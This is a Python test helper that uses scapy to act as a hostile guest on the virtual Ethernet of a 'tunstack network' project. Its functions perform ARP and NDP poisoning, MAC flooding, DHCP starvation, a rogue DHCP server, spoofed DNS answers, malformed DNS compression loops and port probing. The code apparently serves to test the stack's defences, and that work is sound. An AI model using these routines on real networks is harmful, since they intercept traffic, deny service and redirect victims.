"""
A hostile guest who has scapy: what one may try on the Ethernet of `tunstack network`, and on whoever is there.

    neighbour.py CASE INTERFACE [ARGUMENT ...]

Prints one line of JSON, what was sent or seen; test/tun/neighbour.test.ts judges it. Frames leave by a packet socket.
"""
import json
import logging
import os
import random
import select
import socket
import struct
import sys
import time

logging.getLogger("scapy").setLevel(logging.CRITICAL)
from scapy.all import (  # noqa: E402
    ARP, BOOTP, DHCP, DNS, DNSQR, DNSRR, ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IP, TCP, UDP, Ether, IPv6, Raw,
)

from wire import open_wire, put  # noqa: E402

CASE, NAME, *ARGUMENTS = sys.argv[1:]
GATEWAY = "10.83.0.1"
GATEWAY6 = "fd83::1"
ME, ME6 = "10.83.0.6", "fd83::66"
ALL = "ff:ff:ff:ff:ff:ff"

wire, MAC = open_wire(NAME)


def send(*frames):
    put(wire, frames)


def hear(seconds, take):
    """Shows `take` each frame that others sent, for so many seconds or until it gives True."""
    end = time.time() + seconds
    while (left := end - time.time()) > 0:
        if not select.select([wire], [], [], left)[0]:
            return
        data, place = wire.recvfrom(65535)
        if place[2] != socket.PACKET_OUTGOING and take(Ether(data)):
            return


def mac_of(address):
    """Whose hardware address that is, by ARP."""
    found = []
    for _ in range(10):
        send(Ether(src=MAC, dst=ALL) / ARP(op=1, hwsrc=MAC, psrc=ME, pdst=address))
        hear(0.5, lambda f: ARP in f and f[ARP].psrc == address and not found.append(f[ARP].hwsrc))
        if found:
            return found[0]
    raise SystemExit(f"no ARP answer from {address}")


def any_mac():
    return "02:" + ":".join("%02x" % random.randrange(256) for _ in range(5))


def poison(victim, victim6):
    """Claims the gateway's addresses to the victim and the victim's to the gateway, in every way that ARP and NDP have."""
    gateway_mac, victim_mac = mac_of(GATEWAY), mac_of(victim)
    sent = 0
    for _ in range(20):
        for psrc, pdst, to in [(GATEWAY, victim, victim_mac), (victim, GATEWAY, gateway_mac)]:
            for op in (1, 2):
                for dst in (to, ALL):
                    send(Ether(src=MAC, dst=dst) / ARP(op=op, hwsrc=MAC, psrc=psrc, hwdst=to, pdst=pdst))
                    sent += 1
            # The sender's address of the frame is another than the one that it tells.
            send(Ether(src=MAC, dst=to) / ARP(op=2, hwsrc=any_mac(), psrc=psrc, hwdst=to, pdst=pdst))
            sent += 1
        for target, dst in [(GATEWAY6, victim6), (victim6, GATEWAY6)]:
            to = victim_mac if dst == victim6 else gateway_mac
            claim = ICMPv6ND_NA(tgt=target, R=1, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=MAC)
            for src in (ME6, target):
                send(Ether(src=MAC, dst=to) / IPv6(src=src, dst=dst, hlim=255) / claim)
                send(Ether(src=MAC, dst="33:33:00:00:00:01") / IPv6(src=src, dst="ff02::1", hlim=255) / claim)
                sent += 2
        time.sleep(0.02)
    return {"sent": sent}


def flood(count):
    """So many frames from as many stations, half of them to everyone."""
    count = int(count)
    tail = struct.pack("!H", 0x88B5) + bytes(46)
    for i in range(count):
        to = b"\xff" * 6 if i & 1 else b"\x02" + os.urandom(5)
        send(to + b"\x02" + os.urandom(5) + tail)
    return {"sent": count}


def starve(count):
    """Asks for so many leases under as many hardware addresses, with an offer and without, and takes what is offered."""
    got = set()

    def take(frame):
        if BOOTP in frame and frame[BOOTP].op == 2 and DHCP in frame:
            if ("message-type", 5) in frame[DHCP].options:
                got.add(frame[BOOTP].yiaddr)

    for i in range(int(count)):
        mac = any_mac()
        src = mac if i % 3 else MAC  # a client behind a frame of the attacker's own, too
        chaddr = bytes.fromhex(mac.replace(":", ""))
        head = Ether(src=src, dst=ALL) / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67)
        boot = BOOTP(chaddr=chaddr, xid=random.randrange(1 << 32), flags=0x8000)
        wanted = f"10.83.0.{10 + i % 240}"
        send(head / boot / DHCP(options=[("message-type", "discover"), "end"]))
        request = [("message-type", "request"), ("requested_addr", wanted), ("server_id", GATEWAY), "end"]
        send(head / boot / DHCP(options=request))
        hear(0.002, take)
    hear(1, take)
    return {"got": len(got)}


def rogue(seconds):
    """Answers whoever asks for a lease, as a server of its own, until time is up."""
    answers = 0
    print("listening", flush=True)

    def take(frame):
        nonlocal answers
        if BOOTP not in frame or frame[BOOTP].op != 1 or DHCP not in frame:
            return
        asked = dict(o for o in frame[DHCP].options if isinstance(o, tuple) and len(o) == 2)
        kind = {1: "offer", 3: "ack"}.get(asked.get("message-type"))
        if kind is None:
            return
        told = [("message-type", kind), ("server_id", ME), ("lease_time", 9999), ("subnet_mask", "255.255.255.0"),
                ("router", ME), ("name_server", ME), "end"]
        boot = BOOTP(op=2, yiaddr="10.83.0.66", siaddr=ME, xid=frame[BOOTP].xid, flags=0x8000,
                     chaddr=frame[BOOTP].chaddr)
        for dst in (frame.src, ALL):
            send(Ether(src=MAC, dst=dst) / IP(src=ME, dst="255.255.255.255") / UDP(sport=67, dport=68)
                 / boot / DHCP(options=told))
            answers += 1

    hear(float(seconds), take)
    return {"answers": answers}


def names(victim):
    """Answers that nobody asked for, and names that lead in circles; how often it was answered, by what was sent."""
    to, victim_mac = mac_of(GATEWAY), mac_of(victim)
    good = b"\x03web\x07example\x00\x00\x01\x00\x01"
    header = lambda flags, questions, answers=0: struct.pack("!6H", 0x1234, flags, questions, answers, 0, 0)  # noqa: E731
    cases = {
        "answers": bytes(DNS(id=7, qr=1, qd=DNSQR(qname="web.example"), an=DNSRR(rrname="web.example", rdata=ME))),
        "points at itself": header(0x100, 1) + b"\xc0\x0c\x00\x01\x00\x01",
        "points ahead": header(0x100, 1) + b"\xc0\x12\x00\x01\x00\x01\xc0\x0c",
        "two in a circle": header(0x100, 1) + b"\x01a\xc0\x10\x01b\xc0\x0c\x00\x01\x00\x01",
        "a label past the end": header(0x100, 1) + b"\x3fabc",
        "longer than a name": header(0x100, 1) + b"\x3f" + b"x" * 63 + (b"\x3f" + b"x" * 63) * 4 + b"\x00\x00\x01\x00\x01",
        "many questions": header(0x100, 65535) + good,
        "nothing": b"",
        "a header alone": header(0x100, 1),
        "a good question": header(0x100, 1) + good,
    }
    found = {}
    for i, (what, text) in enumerate(cases.items()):
        port = 20000 + i
        codes = []

        def take(frame):
            if UDP in frame and frame[UDP].sport == 53 and frame[UDP].dport == port:
                codes.append(bytes(frame[UDP].payload)[3] & 15)

        for _ in range(20):
            send(Ether(src=MAC, dst=to) / IP(src=ME, dst=GATEWAY) / UDP(sport=port, dport=53) / Raw(text))
            # To the victim, as if the gateway had said it.
            answer = DNS(id=random.randrange(65536), qr=1, qd=DNSQR(qname="web.example"),
                         an=DNSRR(rrname="web.example", rdata=ME))
            send(Ether(src=MAC, dst=victim_mac) / IP(src=GATEWAY, dst=victim)
                 / UDP(sport=53, dport=random.randrange(32768, 61000)) / answer)
        hear(0.4, take)
        found[what] = sorted(set(codes))
    return found


def reach(port, *places):
    """Opens to each of these by hand, over TCP and UDP; what came back: open, reset, unreachable or nothing."""
    to = mac_of(GATEWAY)
    found = {}
    asked = {}
    for i, place in enumerate(places):
        ip = IPv6(src=ME6, dst=place, hlim=64) if ":" in place else IP(src=ME, dst=place)
        sport = 30000 + i
        asked[sport] = place
        found[place] = []
        head = Ether(src=MAC, dst=to) / ip
        send(head / TCP(sport=sport, dport=int(port), flags="S", seq=1))
        send(head / UDP(sport=sport, dport=int(port)) / Raw(place))

    def take(frame):
        if TCP in frame and frame[TCP].dport in asked:
            flags = frame[TCP].flags
            what = "open" if flags == "SA" else "reset" if "R" in flags else str(flags)
            found[asked[frame[TCP].dport]].append(what)
        elif UDP in frame and frame[UDP].dport in asked and frame[UDP].sport == int(port):
            found[asked[frame[UDP].dport]].append("datagram")

    hear(3, take)
    return {place: sorted(set(seen)) for place, seen in found.items()}


def shout(count):
    """So many long frames to everyone, fewer in a second than a storm is."""
    head = bytes(Ether(src=MAC, dst=ALL, type=0x88B5))
    for i in range(int(count)):
        send(head + struct.pack("!I", i) + bytes(1396))
        if i % 50 == 49:
            time.sleep(0.01)
    return {"sent": int(count)}


print(json.dumps(globals()[CASE](*ARGUMENTS)))
